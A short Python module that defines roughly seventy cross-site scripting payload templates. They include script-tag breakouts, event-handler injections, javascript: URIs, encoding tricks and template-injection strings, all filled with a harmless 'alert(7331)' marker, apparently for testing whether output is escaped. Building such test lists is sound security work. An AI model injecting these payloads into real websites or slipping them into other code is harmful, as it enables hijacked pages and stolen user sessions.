"""Texts that become a script wherever somebody forgot to escape them."""

MARK = "alert(7331)"
TEMPLATES = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "</script><script>{}</script>", "<script/x>{}</script>",
    "<scr<script>ipt>{}</script>", "<script src=data:,{}></script>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "</style><script>{}</script>", "--><script>{}</script>",
    "<!--><script>{}</script>", "]]><script>{}</script>", "'><script>{}</script>", '"><script>{}</script>',
    "`><script>{}</script>", "<img src=x onerror={}>", "<img/src=x/onerror={}>", '"><img src=x onerror={}>',
    "'><img src=x onerror={}>", "<IMG SRC=x OnErRoR={}>", "<img src=`x` onerror={}>", "<svg onload={}>",
    "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x>",
    "<svg><a href=javascript:{}><text>x</text></a></svg>", "<math href=javascript:{}>x</math>",
    "<body onload={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>", "<details open ontoggle={}>", "<video><source onerror={}>",
    "<audio src=x onerror={}>", "<marquee onstart={}>", "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>{}</script>'>", "<object data=javascript:{}>", "<embed src=javascript:{}>",
    "<a href=javascript:{}>x</a>", "<a href='java\tscript:{}'>x</a>", "<a href=&#106;avascript:{}>x</a>",
    "<form action=javascript:{}><button>x", "<button formaction=javascript:{}>x", "<base href=javascript:{}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet href=data:,x onload={}>",
    "<style onload={}></style>", "<style>@import 'javascript:{}'</style>", "<div style=x:expression({})>",
    "<xss contenteditable autofocus onfocus={}>", "<x onclick={}>x</x>", "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><script>{}</script>'>", '" onmouseover="{}', "' onmouseover='{}",
    '" autofocus onfocus="{}" x="', "javascript:{}", "JaVaScRiPt:{}//", "data:text/html,<script>{}</script>",
    "';{};//", '";{};//', "\\';{};//", "${{{}}}", "{{{{constructor.constructor('{}')()}}}}",
    "{{% load x %}}<script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "\u003cscript\u003e{}\u003c/script\u003e", "＜script＞{}＜/script＞", "<img src=x onerror=\u2028{}>",
)  # fmt: skip
PAYLOADS = tuple(template.format(MARK) for template in TEMPLATES)
